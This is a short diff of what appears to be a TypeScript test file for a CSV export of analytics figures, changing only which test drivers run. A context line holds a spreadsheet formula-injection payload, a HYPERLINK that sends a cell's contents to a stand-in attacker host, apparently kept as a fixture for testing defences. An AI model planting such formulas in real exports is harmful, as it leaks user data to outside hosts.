@@ -43,7 +43,7 @@ const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
  * GET /api/analytics.csv (issue 25, item 13): the analytics page's figures for the chosen range,
  * one per row (`section,item,metric,value`), the same as GET /api/analytics says.
  */
-describe.each(testDrivers())("analytics as CSV on %s", (driver) => {
+describe.each(testDrivers("either"))("analytics as CSV on %s", (driver) => {
   let t: TestApp;
   let issuer: TokenIssuer;
   let api: ReturnType<typeof builderClient>;
